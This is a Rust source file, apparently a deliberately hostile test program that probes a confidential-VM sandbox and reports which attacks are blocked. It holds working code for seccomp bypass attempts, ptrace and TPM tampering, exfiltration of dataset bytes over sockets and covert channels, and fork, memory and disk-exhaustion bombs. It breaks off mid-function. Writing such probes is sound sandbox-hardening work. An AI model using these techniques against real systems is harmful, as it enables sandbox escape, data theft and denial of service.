//! A deliberately hostile algorithm, for the sandbox's tests.
//!
//! `hostile probe [--vsock-ports P,...] [--tcp-port P] [--abstract NAME]` tries
//! every attack that does not end the run and writes what happened to
//! `$CVM_RESULTS/report.json`: each entry is `blocked: ...` when the attack
//! failed, or starts with `ESCAPED` when it worked; entries under `info.`
//! only describe. It exits 0 so that the report reaches the consumer; the
//! tests read it and fail on any `ESCAPED`. Attacks that end the run are
//! commands of their own:
//!
//! - `membomb PROCS MIB`: PROCS processes each touch MIB MiB, together far
//!   over the sandbox's memory;
//! - `forkbomb`: forks until refused, many times over;
//! - `fill-results`: writes to the results until the space runs out;
//! - `sparse-results`: a sparse file of 1 TiB in the results;
//! - `x32`: a system call through the x32 ABI, which the filter kills;
//! - `cpuhog PROCS SECS`: PROCS processes, each in a session of its own (so
//!   each in its own scheduler autogroup), spin for SECS seconds, then exit 0:
//!   the agent must still answer its owners meanwhile;
//! - `deep-results`: thousands of empty files with the longest names a path
//!   allows, so that the results' package (names and headers) dwarfs the
//!   space the results take;
//! - `covert`: encodes the first bytes of a dataset in what the agent counts
//!   of the run (forks refused, memory peak, exit code), which its log stream
//!   carries to the host's operator;
//! - `oom-names`: names processes after the first bytes of a dataset
//!   (hex-encoded) and runs out of memory: the kernel names each process it
//!   kills on its console (an error), which the host reads.
//!
//! vsock is tried only when `--vsock-ports` is given: never on a
//! development machine, whose vsock device belongs to the machine.

use std::collections::BTreeMap;
use std::ffi::CString;
use std::io::Write;
use std::time::Duration;

type Report = BTreeMap<String, String>;

fn errno() -> std::io::Error {
    std::io::Error::last_os_error()
}

/// `blocked: <why>` for a negative return, `ESCAPED <what>` otherwise.
fn verdict(rc: i64, what: &str) -> String {
    if rc < 0 {
        format!("blocked: {}", errno())
    } else {
        format!("ESCAPED {what} (returned {rc})")
    }
}

fn results_dir() -> String {
    std::env::var("CVM_RESULTS").unwrap_or_else(|_| "/results".into())
}

fn datasets_dir() -> String {
    std::env::var("CVM_DATASETS").unwrap_or_else(|_| "/datasets".into())
}

/// The first dataset's bytes: what an exfiltration would send.
fn loot() -> Vec<u8> {
    std::fs::read_dir(datasets_dir())
        .ok()
        .and_then(|d| d.flatten().next())
        .and_then(|e| std::fs::read(e.path()).ok())
        .unwrap_or_else(|| b"no dataset".to_vec())
}

fn arg_value(args: &[String], name: &str) -> Option<String> {
    args.iter().position(|a| a == name).and_then(|i| args.get(i + 1).cloned())
}

fn main() {
    // Every attack here is meant for a sandbox: as root, outside one, some
    // of them would work on the real machine.
    // SAFETY: getuid takes no arguments.
    if unsafe { libc::getuid() } == 0 {
        eprintln!("hostile: refusing to run as root: this program belongs in the agent's sandbox");
        std::process::exit(2);
    }
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(String::as_str) {
        Some("probe") => probe(&args),
        Some("membomb") => {
            let procs = args.get(1).and_then(|s| s.parse().ok()).unwrap_or(8);
            let mib = args.get(2).and_then(|s| s.parse().ok()).unwrap_or(64);
            membomb(procs, mib)
        }
        Some("forkbomb") => forkbomb(),
        Some("fill-results") => fill_results(),
        Some("sparse-results") => sparse_results(),
        Some("x32") => x32(),
        Some("cpuhog") => {
            let procs = args.get(1).and_then(|s| s.parse().ok()).unwrap_or(60);
            let secs = args.get(2).and_then(|s| s.parse().ok()).unwrap_or(40);
            cpuhog(procs, secs)
        }
        Some("deep-results") => deep_results(),
        Some("covert") => covert(),
        Some("oom-names") => oom_names(),
        // What a program the probe wrote and executed runs.
        Some("noop") => std::process::exit(0),
        _ => {
            eprintln!(
                "usage: hostile probe|membomb|forkbomb|fill-results|sparse-results|x32|cpuhog|deep-results|covert|oom-names"
            );
            std::process::exit(2);
        }
    }
}

fn probe(args: &[String]) {
    let mut r = Report::new();
    let at_start: Vec<String> = std::fs::read_dir("/proc/self/fd")
        .map(|d| {
            d.flatten()
                .filter_map(|e| std::fs::read_link(e.path()).ok())
                .map(|p| p.display().to_string())
                .collect()
        })
        .unwrap_or_default();
    r.insert("info.fds_at_start".into(), format!("{at_start:?}"));
    sockets(&mut r, args);
    descriptors(&mut r);
    processes(&mut r);
    files(&mut r);
    writes(&mut r);
    syscalls(&mut r);
    more_syscalls(&mut r);
    identity(&mut r);
    way_out_of_the_root(&mut r);
    sealed_inputs(&mut r);
    exec_from_memory(&mut r);
    daemon(args);
    let text = serde_json::to_string_pretty(&r).unwrap_or_default();
    let path = format!("{}/report.json", results_dir());
    if let Err(e) = std::fs::write(&path, &text) {
        eprintln!("hostile: cannot write {path}: {e}");
        std::process::exit(1);
    }
    let escaped = r.iter().filter(|(_, v)| v.starts_with("ESCAPED")).count();
    println!("hostile: {} probes, {escaped} escaped", r.len());
}

/// Sockets of every family, and where they could lead.
fn sockets(r: &mut Report, args: &[String]) {
    let families: &[(&str, libc::c_int, libc::c_int)] = &[
        ("inet", libc::AF_INET, libc::SOCK_STREAM),
        ("inet_udp", libc::AF_INET, libc::SOCK_DGRAM),
        ("inet6", libc::AF_INET6, libc::SOCK_STREAM),
        ("netlink", libc::AF_NETLINK, libc::SOCK_RAW),
        ("packet", libc::AF_PACKET, libc::SOCK_RAW),
        ("alg", libc::AF_ALG, libc::SOCK_SEQPACKET),
        ("key", libc::AF_KEY, libc::SOCK_RAW),
        ("tipc", libc::AF_TIPC, libc::SOCK_RDM),
        ("xdp", libc::AF_XDP, libc::SOCK_RAW),
        ("bluetooth", libc::AF_BLUETOOTH, libc::SOCK_STREAM),
    ];
    for (name, family, kind) in families {
        // SAFETY: socket takes integers; a descriptor it returns is closed below.
        let fd = unsafe { libc::socket(*family, *kind, 0) };
        r.insert(format!("socket.{name}"), verdict(fd.into(), "a socket"));
        if fd >= 0 {
            // SAFETY: the descriptor just returned.
            unsafe { libc::close(fd) };
        }
    }
    let mut pair = [0 as libc::c_int; 2];
    // SAFETY: socketpair writes two ints into `pair`.
    let rc = unsafe { libc::socketpair(libc::AF_INET, libc::SOCK_STREAM, 0, pair.as_mut_ptr()) };
    r.insert("socketpair.inet".into(), verdict(rc.into(), "an inet socket pair"));
    // AF_UNIX stays allowed (pipes between the algorithm's own processes)...
    // SAFETY: as above.
    let rc = unsafe { libc::socketpair(libc::AF_UNIX, libc::SOCK_STREAM, 0, pair.as_mut_ptr()) };
    r.insert(
        "info.socketpair.unix".into(),
        if rc == 0 { "allowed".into() } else { format!("refused: {}", errno()) },
    );
    if rc == 0 {
        // SAFETY: the two descriptors just made (so that the descriptor scan
        // below sees only what was inherited).
        unsafe {
            libc::close(pair[0]);
            libc::close(pair[1]);
        }
    }
    // ...but reaches nobody outside: the agent's abstract names are in another network namespace.
    if let Some(name) = arg_value(args, "--abstract") {
        r.insert("unix.abstract".into(), connect_abstract(&name));
    }
    if let Some(port) = arg_value(args, "--tcp-port").and_then(|p| p.parse::<u16>().ok()) {
        r.insert("tcp.loopback".into(), connect_tcp(port));
    }
    for port in vsock_ports(args) {
        for cid in [2u32, 1] {
            r.insert(format!("vsock.cid{cid}.port{port}"), connect_vsock(cid, port));
        }
    }
}

/// The vsock ports of `--vsock-ports P[,P...]`.
fn vsock_ports(args: &[String]) -> Vec<u32> {
    arg_value(args, "--vsock-ports")
        .map(|v| v.split(',').filter_map(|p| p.parse().ok()).collect())
        .unwrap_or_default()
}

fn connect_abstract(name: &str) -> String {
    // SAFETY: a plain socket call.
    let fd = unsafe { libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0) };
    if fd < 0 {
        return format!("blocked: {}", errno());
    }
    // SAFETY: zeroed sockaddr_un is a valid value.
    let mut addr: libc::sockaddr_un = unsafe { std::mem::zeroed() };
    addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
    let bytes = name.as_bytes();
    let n = bytes.len().min(addr.sun_path.len() - 1);
    for (i, b) in bytes[..n].iter().enumerate() {
        addr.sun_path[i + 1] = *b as libc::c_char;
    }
    let len = (std::mem::size_of::<libc::sa_family_t>() + 1 + n) as libc::socklen_t;
    // SAFETY: addr lives for the call; len covers the used part.
    let rc = unsafe { libc::connect(fd, (&addr as *const libc::sockaddr_un).cast(), len) };
    let out = if rc == 0 {
        let loot = loot();
        // SAFETY: writes from a live buffer.
        unsafe { libc::write(fd, loot.as_ptr().cast(), loot.len()) };
        "ESCAPED connected to the abstract socket and sent a dataset".into()
    } else {
        format!("blocked: {}", errno())
    };
    // SAFETY: our descriptor.
    unsafe { libc::close(fd) };
    out
}

fn connect_tcp(port: u16) -> String {
    match std::net::TcpStream::connect_timeout(&([127, 0, 0, 1], port).into(), Duration::from_secs(2)) {
        Ok(mut s) => {
            let _ = s.write_all(&loot());
            "ESCAPED connected over TCP and sent a dataset".into()
        }
        Err(e) => format!("blocked: {e}"),
    }
}

fn connect_vsock(cid: u32, port: u32) -> String {
    // SAFETY: a plain socket call.
    let fd = unsafe { libc::socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0) };
    if fd < 0 {
        return format!("blocked: {}", errno());
    }
    // SAFETY: zeroed sockaddr_vm is a valid value.
    let mut addr: libc::sockaddr_vm = unsafe { std::mem::zeroed() };
    addr.svm_family = libc::AF_VSOCK as libc::sa_family_t;
    addr.svm_cid = cid;
    addr.svm_port = port;
    // SAFETY: addr lives for the call.
    let rc = unsafe {
        libc::connect(
            fd,
            (&addr as *const libc::sockaddr_vm).cast(),
            std::mem::size_of::<libc::sockaddr_vm>() as libc::socklen_t,
        )
    };
    let out = if rc == 0 {
        let loot = loot();
        // SAFETY: writes from a live buffer.
        unsafe { libc::write(fd, loot.as_ptr().cast(), loot.len()) };
        format!("ESCAPED connected to vsock {cid}:{port} and sent a dataset")
    } else {
        format!("blocked at connect: {}", errno())
    };
    // SAFETY: our descriptor.
    unsafe { libc::close(fd) };
    out
}

/// Descriptors inherited from the agent, the TPM above all.
fn descriptors(r: &mut Report) {
    let mut open = Vec::new();
    for fd in 3..1024 {
        // SAFETY: F_GETFD on an integer.
        if unsafe { libc::fcntl(fd, libc::F_GETFD) } >= 0 {
            let target = std::fs::read_link(format!("/proc/self/fd/{fd}"))
                .map(|p| p.display().to_string())
                .unwrap_or_else(|e| format!("? ({e})"));
            open.push(format!("{fd}={target}"));
        }
    }
    // Anything open beyond stdio and the sealed inputs' memfds is a leak.
    let leaked: Vec<&String> = open.iter().filter(|d| !d.contains("/memfd:")).collect();
    r.insert(
        "fds.inherited".into(),
        if leaked.is_empty() {
            "blocked: none but the sealed inputs".into()
        } else {
            format!("ESCAPED {leaked:?}")
        },
    );
    r.insert("info.fds".into(), format!("{open:?}"));
    // A TPM2_PCR_Extend of PCR 15 with a SHA-256 digest of 0xAA, through any
    // descriptor that looks like a TPM or a socket: the agent's log would no
    // longer replay.
    let extend: Vec<u8> = [
        &[0x80, 0x02][..],
        &(67u32).to_be_bytes(),
        &0x0000_0182u32.to_be_bytes(),
        &15u32.to_be_bytes(),
        &9u32.to_be_bytes(),
        &[0x40, 0x00, 0x00, 0x09, 0x00, 0x00, 0x01, 0x00, 0x00],
        &1u32.to_be_bytes(),
        &0x000bu16.to_be_bytes(),
        &[0xAA; 32],
    ]
    .concat();
    let mut sent = Vec::new();
    for d in &leaked {
        if let Some(fd) = d.split('=').next().and_then(|f| f.parse::<i32>().ok()) {
            // SAFETY: writes from a live buffer to a descriptor we found open.
            if unsafe { libc::write(fd, extend.as_ptr().cast(), extend.len()) } > 0 {
                sent.push(fd);
            }
        }
    }
    r.insert(
        "tpm.extend_through_inherited".into(),
        if sent.is_empty() {
            "blocked: nothing to write to".into()
        } else {
            format!("ESCAPED wrote to {sent:?}")
        },
    );
    for dev in ["/dev/tpm0", "/dev/tpmrm0"] {
        r.insert(format!("open{dev}"), open_result(dev, libc::O_RDWR));
    }
}

fn open_result(path: &str, flags: libc::c_int) -> String {
    let Ok(c) = CString::new(path) else { return "blocked: bad path".into() };
    // SAFETY: a NUL-terminated path; the descriptor is closed below.
    let fd = unsafe { libc::open(c.as_ptr(), flags | libc::O_CLOEXEC, 0o644) };
    let v = verdict(fd.into(), &format!("opened {path}"));
    if fd >= 0 {
        // SAFETY: our descriptor.
        unsafe { libc::close(fd) };
    }
    v
}

/// Other processes: the agent, the sandbox's init.
fn processes(r: &mut Report) {
    let me = std::process::id();
    let pids: Vec<String> = std::fs::read_dir("/proc")
        .map(|d| {
            d.flatten()
                .filter_map(|e| e.file_name().into_string().ok())
                .filter(|n| n.bytes().all(|b| b.is_ascii_digit()))
                .collect()
        })
        .unwrap_or_default();
    r.insert("info.visible_pids".into(), format!("{pids:?} (me: {me})"));
    let others: Vec<&String> = pids.iter().filter(|p| p.parse::<u32>().ok() != Some(me)).collect();
    r.insert(
        "proc.other_processes".into(),
        if others.is_empty() { "blocked: none visible".into() } else { format!("ESCAPED sees {others:?}") },
    );
    for path in [
        "/proc/1/cmdline",
        "/proc/1/environ",
        "/proc/1/mem",
        "/proc/cmdline",
        "/proc/kallsyms",
        "/proc/sys/kernel/hostname",
    ] {
        r.insert(format!("read{path}"), read_result(path));
    }
    // SAFETY: ptrace/kill with integer arguments.
    let rc = unsafe { libc::ptrace(libc::PTRACE_ATTACH, 1, 0, 0) };
    r.insert("ptrace.attach_init".into(), verdict(rc, "attached to the sandbox's init"));
    // The agent's PID is unknown here (and invisible): try them all.
    let attached: Vec<i32> = (2..4096)
        // SAFETY: ptrace with integer arguments; a success is detached at once.
        .filter(|&pid| unsafe { libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) } == 0)
        .collect();
    r.insert(
        "ptrace.any_pid".into(),
        if attached.is_empty() {
            "blocked: no PID from 2 to 4095".into()
        } else {
            format!("ESCAPED attached to {attached:?}")
        },
    );
    // SAFETY: as above.
    let rc = unsafe { libc::ptrace(libc::PTRACE_TRACEME, 0, 0, 0) };
    r.insert("ptrace.traceme".into(), verdict(rc, "PTRACE_TRACEME"));
    // SAFETY: signals to integers.
    let rc = unsafe { libc::kill(1, libc::SIGKILL) };
    r.insert(
        "kill.init".into(),
        if rc < 0 {
            format!("blocked: {}", errno())
        } else {
            "blocked: ignored by the namespace's init".into()
        },
    );
    // SAFETY: as above.
    let rc = unsafe { libc::kill(-1, 0) };
    r.insert(
        "info.kill_minus_one".into(),
        if rc < 0 { errno().to_string() } else { "some process of this uid is visible".into() },
    );
    let mut local = [0u8; 16];
    let iov_local = libc::iovec { iov_base: local.as_mut_ptr().cast(), iov_len: local.len() };
    let iov_remote = libc::iovec { iov_base: 0x40_0000 as *mut libc::c_void, iov_len: 16 };
    // SAFETY: reads into `local`, which lives for the call.
    let rc = unsafe { libc::process_vm_readv(1, &iov_local, 1, &iov_remote, 1, 0) };
    r.insert("process_vm_readv.init".into(), verdict(rc as i64, "read another process's memory"));
}

fn read_result(path: &str) -> String {
    match std::fs::read(path) {
        Ok(b) => format!("ESCAPED read {} bytes of {path}", b.len()),
        Err(e) => format!("blocked: {e}"),
    }
}

/// The agent's files, the disks, devices, firmware configuration.
fn files(r: &mut Report) {
    let root: Vec<String> = std::fs::read_dir("/")
        .map(|d| d.flatten().filter_map(|e| e.file_name().into_string().ok()).collect())
        .unwrap_or_default();
    r.insert("info.root".into(), format!("{root:?}"));
    let dev: Vec<String> = std::fs::read_dir("/dev")
        .map(|d| d.flatten().filter_map(|e| e.file_name().into_string().ok()).collect())
        .unwrap_or_default();
    let unexpected: Vec<&String> = dev
        .iter()
        .filter(|d| !["null", "zero", "urandom", "fd", "stdin", "stdout", "stderr"].contains(&d.as_str()))
        .collect();
    r.insert(
        "dev.extra_entries".into(),
        if unexpected.is_empty() {
            "blocked: only null, zero, urandom".into()
        } else {
            format!("ESCAPED {unexpected:?}")
        },
    );
    for path in [
        "/run/cvm-agent",
        "/etc/cvm-agent.conf",
        "/init",
        "/bin/cvm-agent",
        "/sys/firmware/qemu_fw_cfg/by_name",
        "/sys/kernel/config/tsm/report",
        "/sys/kernel/security",
        "/sys/fs/cgroup",
        "/dev/vda",
        "/dev/vdb",
        "/dev/sda",
        "/dev/mem",
        "/dev/sev-guest",
        "/dev/vsock",
        "/dev/vhost-vsock",
        "/dev/kmsg",
        "/dev/console",
    ] {
        let v = match std::fs::symlink_metadata(path) {
            Ok(_) => format!("ESCAPED {path} exists"),
            Err(e) => format!("blocked: {e}"),
        };
        r.insert(format!("see{path}"), v);
    }
}

/// Writing anywhere but the results (and /tmp, counted with them).
fn writes(r: &mut Report) {
    let results = results_dir();
    let datasets = datasets_dir();
    for dir in
        ["/", "/dev", "/proc", "/datasets", "/artifacts", "/usr", "/var/tmp", "/dev/shm", datasets.as_str()]
    {
        let path = format!("{}/hostile-was-here", dir.trim_end_matches('/'));
        r.insert(format!("write{path}"), open_result(&path, libc::O_WRONLY | libc::O_CREAT));
    }
    if let Some(first) = std::fs::read_dir(&datasets).ok().and_then(|d| d.flatten().next()) {
        let path = first.path().display().to_string();
        r.insert("write.dataset_in_place".into(), open_result(&path, libc::O_WRONLY | libc::O_APPEND));
    }
    r.insert("write.algorithm".into(), open_result("/algorithm", libc::O_WRONLY));
    // Devices: only /dev/null takes writes (mixing into the kernel's random
    // pool is not the algorithm's business).
    for dev in ["/dev/urandom", "/dev/zero"] {
        r.insert(format!("write{dev}"), open_result(dev, libc::O_WRONLY));
    }
    let mine = format!("{results}/probe-wrote-this");
    r.insert(
        "info.write_results".into(),
        match std::fs::write(&mine, b"ok") {
            Ok(()) => "allowed".into(),
            Err(e) => format!("refused: {e}"),
        },
    );
    r.insert(
        "info.write_tmp".into(),
        match std::fs::write("/tmp/probe", b"ok") {
            Ok(()) => "allowed".into(),
            Err(e) => format!("refused: {e}"),
        },
    );
    // A program written by the algorithm cannot be executed from its writable space.
    let exe = format!("{results}/run-me");
    let _ = std::fs::copy("/proc/self/exe", &exe);
    let _ = std::fs::set_permissions(&exe, std::os::unix::fs::PermissionsExt::from_mode(0o755));
    r.insert(
        "exec.from_results".into(),
        match std::process::Command::new(&exe).arg("--version").output() {
            Ok(_) => "ESCAPED executed a file it wrote".into(),
            Err(e) => format!("blocked: {e}"),
        },
    );
    let _ = std::fs::remove_file(&exe);
}

/// System calls the filter refuses.
fn syscalls(r: &mut Report) {
    // SAFETY: every call below takes integers or null pointers, or buffers
    // that live for the call; none of them is expected to succeed.
    unsafe {
        let mut params = [0u8; 120];
        let rc = libc::syscall(libc::SYS_io_uring_setup, 8, params.as_mut_ptr());
        r.insert("io_uring_setup".into(), verdict(rc, "an io_uring"));
        let rc = libc::syscall(libc::SYS_bpf, 0, std::ptr::null::<u8>(), 0);
        r.insert("bpf".into(), verdict(rc, "bpf"));
        let rc = libc::syscall(libc::SYS_perf_event_open, std::ptr::null::<u8>(), 0, -1, -1, 0);
        r.insert("perf_event_open".into(), verdict(rc, "perf"));
        let rc = libc::syscall(libc::SYS_userfaultfd, 0);
        r.insert("userfaultfd".into(), verdict(rc, "a userfaultfd"));
        let rc = libc::syscall(libc::SYS_keyctl, 0, 0, 0);
        r.insert("keyctl".into(), verdict(rc, "keyctl"));
        let rc =
            libc::syscall(libc::SYS_add_key, c"user".as_ptr(), c"k".as_ptr(), std::ptr::null::<u8>(), 0, -3);
        r.insert("add_key".into(), verdict(rc, "a key"));
        let rc = libc::unshare(libc::CLONE_NEWUSER);
        r.insert("unshare.user".into(), verdict(rc.into(), "a user namespace"));
        let rc = libc::unshare(libc::CLONE_NEWNS);
        r.insert("unshare.mount".into(), verdict(rc.into(), "a mount namespace"));
        let rc = libc::syscall(libc::SYS_clone, libc::CLONE_NEWUSER | libc::SIGCHLD, 0, 0, 0, 0);
        if rc == 0 {
            libc::_exit(0);
        }
        r.insert("clone.newuser".into(), verdict(rc, "a child in a new user namespace"));
        let rc = libc::mount(c"none".as_ptr(), c"/tmp".as_ptr(), c"tmpfs".as_ptr(), 0, std::ptr::null());
        r.insert("mount".into(), verdict(rc.into(), "a mount"));
        let rc = libc::syscall(libc::SYS_setns, 0, 0);
        r.insert("setns".into(), verdict(rc, "setns"));
        let rc = libc::chroot(c"/tmp".as_ptr());
        r.insert("chroot".into(), verdict(rc.into(), "chroot"));
        let rc = libc::syscall(libc::SYS_init_module, std::ptr::null::<u8>(), 0, c"".as_ptr());
        r.insert("init_module".into(), verdict(rc, "a module"));
        let rc = libc::syscall(libc::SYS_kexec_load, 0, 0, std::ptr::null::<u8>(), 0);
        r.insert("kexec_load".into(), verdict(rc, "kexec"));
        let rc = libc::syscall(libc::SYS_reboot, 0, 0, 0, std::ptr::null::<u8>());
        r.insert("reboot".into(), verdict(rc, "reboot"));
        let mut handle = [0u8; 136];
        let rc = libc::syscall(libc::SYS_open_by_handle_at, -100, handle.as_mut_ptr(), 0);
        r.insert("open_by_handle_at".into(), verdict(rc, "open_by_handle_at"));
        let rc = libc::setuid(0);
        r.insert("setuid.root".into(), verdict(rc.into(), "setuid(0)"));
    }
}

/// What the kernel says of this process's privileges.
fn identity(r: &mut Report) {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    for field in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        let value = status
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{field}:")))
            .map(str::trim)
            .unwrap_or("?")
            .to_owned();
        let v =
            if value == "0000000000000000" { "blocked: empty".into() } else { format!("ESCAPED {value}") };
        r.insert(format!("caps.{field}"), v);
    }
    // A process the out-of-memory killer spares could hold the sandbox at
    // its limit forever (the agent shields itself with -1000).
    let adj = std::fs::read_to_string("/proc/self/oom_score_adj").unwrap_or_default();
    let lowered = std::fs::write("/proc/self/oom_score_adj", "-1000");
    r.insert(
        "oom_score_adj".into(),
        match (adj.trim().parse::<i32>(), lowered) {
            (_, Ok(())) => "ESCAPED lowered its oom_score_adj to -1000".into(),
            (Ok(v), Err(e)) if v >= 0 => format!("blocked: {v}, and lowering it: {e}"),
            (v, _) => format!("ESCAPED inherited oom_score_adj {v:?}"),
        },
    );
    // Nothing of the agent's environment, only the documented variables.
    let documented = ["CVM_DATASETS", "CVM_ARTIFACTS", "CVM_RESULTS", "TMPDIR", "HOME", "PATH", "LANG"];
    let extra: Vec<String> = std::env::vars_os()
        .map(|(k, _)| k.to_string_lossy().into_owned())
        .filter(|k| !documented.contains(&k.as_str()))
        .collect();
    r.insert(
        "env.extra".into(),
        if extra.is_empty() {
            "blocked: only the documented variables".into()
        } else {
            format!("ESCAPED {extra:?}")
        },
    );
    for field in ["NoNewPrivs", "Seccomp", "Uid", "Gid", "Groups"] {
        let value =
            status.lines().find_map(|l| l.strip_prefix(&format!("{field}:"))).map(str::trim).unwrap_or("?");
        r.insert(format!("info.{field}"), value.to_owned());
    }
}

/// A daemon that outlives the main process, if the sandbox lets it: after
/// the run it writes into the results and tries the host.
fn daemon(args: &[String]) {
    // SAFETY: fork in a single-threaded program.
    if unsafe { libc::fork() } == 0 {
        // SAFETY: setsid takes no arguments.
        unsafe { libc::setsid() };
        std::thread::sleep(Duration::from_secs(3));
        let _ = std::fs::write(format!("{}/daemon-was-here", results_dir()), b"late");
        for port in vsock_ports(args) {
            let _ = connect_vsock(2, port);
        }
        std::thread::sleep(Duration::from_secs(600));
        std::process::exit(0);
    }
}

fn membomb(procs: usize, mib: usize) {
    let mut children = Vec::new();
    for _ in 0..procs {
        // SAFETY: fork in a single-threaded program.
        match unsafe { libc::fork() } {
            0 => {
                let mut held: Vec<Vec<u8>> = Vec::new();
                for _ in 0..mib {
                    held.push(vec![0x5a; 1 << 20]);
                }
                std::thread::sleep(Duration::from_secs(600));
                std::process::exit(held.len() as i32 & 1);
            }
            pid if pid > 0 => children.push(pid),
            _ => eprintln!("hostile: fork refused: {}", errno()),
        }
    }
    for pid in children {
        let mut status = 0;
        // SAFETY: waits on our own child.
        unsafe { libc::waitpid(pid, &mut status, 0) };
    }
    println!("hostile: every memory hog ended");
}

fn forkbomb() {
    let mut refused = 0u32;
    while refused < 200 {
        // SAFETY: fork in a single-threaded program; children sleep.
        match unsafe { libc::fork() } {
            0 => {
                std::thread::sleep(Duration::from_secs(600));
                std::process::exit(0);
            }
            pid if pid > 0 => {}
            _ => {
                refused += 1;
                std::thread::sleep(Duration::from_millis(5));
            }
        }
    }
    println!("hostile: {refused} forks refused; exiting as if all was well");
}

fn fill_results() {
    let path = format!("{}/filler", results_dir());
    let mut f = match std::fs::File::create(&path) {
        Ok(f) => f,
        Err(e) => {
            eprintln!("hostile: {path}: {e}");
            std::process::exit(1);
        }
    };
    let block = vec![0x42u8; 1 << 20];
    let mut written = 0usize;
    while f.write_all(&block).is_ok() {
        written += 1;
    }
    println!("hostile: wrote {written} MiB before the space ran out; exiting as if all was well");
}

fn sparse_results() {
    let path = format!("{}/sparse", results_dir());
    match std::fs::File::create(&path).and_then(|f| f.set_len(1 << 40)) {
        Ok(()) => println!("hostile: a 1 TiB sparse file in the results"),
        Err(e) => {
            eprintln!("hostile: {path}: {e}");
            std::process::exit(1);
        }
    }
}

fn x32() {
    const X32_SYSCALL_BIT: libc::c_long = 0x4000_0000;
    // SAFETY: getpid through the x32 entry: no arguments.
    let rc = unsafe { libc::syscall(X32_SYSCALL_BIT | libc::SYS_getpid) };
    println!("hostile: the x32 getpid returned {rc} ({})", errno());
}

/// How a child that ran `attack` ended: exit code 0 means the attack worked.
fn in_child(attack: impl FnOnce() -> i32, what: &str) -> String {
    // SAFETY: fork in a single-threaded program; the child only runs `attack` and exits.
    match unsafe { libc::fork() } {
        0 => {
            let code = attack();
            // SAFETY: ends the child without running the parent's exit handlers.
            unsafe { libc::_exit(code) }
        }
        pid if pid > 0 => {
            let mut status = 0;
            // SAFETY: waits on our own child.
            unsafe { libc::waitpid(pid, &mut status, 0) };
            if libc::WIFEXITED(status) {
                match libc::WEXITSTATUS(status) {
                    0 => format!("ESCAPED {what}"),
                    code => format!("blocked: refused (the child exited with {code})"),
                }
            } else if libc::WIFSIGNALED(status) && libc::WTERMSIG(status) == libc::SIGSYS {
                "blocked: killed by SIGSYS (seccomp)".into()
            } else {
                format!("blocked: the child ended with status {status:#x}")
            }
        }
        _ => format!("blocked: fork: {}", errno()),
    }
}

/// socket(AF_INET, SOCK_STREAM, 0) through the i386 entry (`int 0x80`),
/// whose system call numbers differ from x86-64's (socket is 359 there).
fn int80_socket() -> i64 {
    let ret: i64;
    // SAFETY: a system call with integer arguments; rbx (which the compiler
    // reserves) is swapped in and restored around it, and the registers
    // the i386 entry may clobber are declared.
    unsafe {
        std::arch::asm!(
            "xchg {b}, rbx",
            "int 0x80",
            "xchg {b}, rbx",
            b = inout(reg) 2i64 => _,
            inlateout("rax") 359i64 => ret,
            in("rcx") 1i64,
            in("rdx") 0i64,
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
        );
    }
    ret
}

/// System calls a filter keyed on x86-64 numbers and 32-bit arguments
/// might miss, and privileges of scheduling, limits and identity.
fn more_syscalls(r: &mut Report) {
    let close = |fd: i64| {
        if fd >= 0 {
            // SAFETY: a descriptor just returned to us.
            unsafe { libc::close(fd as libc::c_int) };
        }
    };
    // socket(AF_INET) with bits above the 32 the kernel reads set in the
    // system call number, and in the family: the filter must read them as
    // the kernel does.
    // SAFETY: integer arguments only.
    let rc = unsafe { libc::syscall(libc::SYS_socket | (1 << 32), libc::AF_INET, libc::SOCK_STREAM, 0) };
    r.insert("socket.number_high_bits".into(), verdict(rc, "an inet socket"));
    close(rc);
    // SAFETY: as above.
    let rc = unsafe {
        libc::syscall(libc::SYS_socket, (1i64 << 32) | i64::from(libc::AF_INET), libc::SOCK_STREAM, 0)
    };
    r.insert("socket.family_high_bits".into(), verdict(rc, "an inet socket"));
    close(rc);
    // The i386 entry, in a child: the filter kills the process.
    r.insert(
        "socket.int80".into(),
        in_child(|| if int80_socket() >= 0 { 0 } else { 1 }, "an inet socket through the i386 entry"),
    );
    // Real-time scheduling would starve the agent of its CPU.
    let param = libc::sched_param { sched_priority: 1 };
    // SAFETY: a valid sched_param for the call.
    let rc = unsafe { libc::sched_setscheduler(0, libc::SCHED_FIFO, &param) };
    r.insert("sched.realtime".into(), verdict(rc.into(), "real-time scheduling (SCHED_FIFO)"));
    if rc == 0 {
        let normal = libc::sched_param { sched_priority: 0 };
        // SAFETY: as above.
        unsafe { libc::sched_setscheduler(0, libc::SCHED_OTHER, &normal) };
    }
    // SAFETY: integer arguments.
    let rc = unsafe { libc::setpriority(libc::PRIO_PROCESS, 0, -5) };
    r.insert("nice.raise".into(), verdict(rc.into(), "a higher priority than the agent's (nice -5)"));
    let mut limits = Vec::new();
    for (name, resource) in [
        ("nofile", libc::RLIMIT_NOFILE),
        ("memlock", libc::RLIMIT_MEMLOCK),
        ("rtprio", libc::RLIMIT_RTPRIO),
        ("nice", libc::RLIMIT_NICE),
        ("nproc", libc::RLIMIT_NPROC),
        ("as", libc::RLIMIT_AS),
    ] {
        let mut l = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
        // SAFETY: writes into `l`.
        unsafe { libc::getrlimit(resource, &mut l) };
        limits.push(format!("{name}={}/{}", l.rlim_cur, l.rlim_max));
        if name == "nofile" && l.rlim_max != libc::RLIM_INFINITY {
            let raised = libc::rlimit { rlim_cur: l.rlim_max + 1, rlim_max: l.rlim_max + 1 };
            // SAFETY: reads `raised`.
            let rc = unsafe { libc::setrlimit(resource, &raised) };
            r.insert("rlimit.raise_hard".into(), verdict(rc.into(), "a higher hard limit of descriptors"));
        }
    }
    r.insert("info.rlimits".into(), limits.join(" "));
    // A pidfd of the sandbox's init and a signal through it (0: only the
    // permission is checked).
    // SAFETY: integer arguments.
    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, 1, 0) };
    r.insert(
        "pidfd.signal_init".into(),
        if pidfd < 0 {
            format!("blocked: pidfd_open: {}", errno())
        } else {
            // SAFETY: integer arguments and a null siginfo.
            let rc = unsafe {
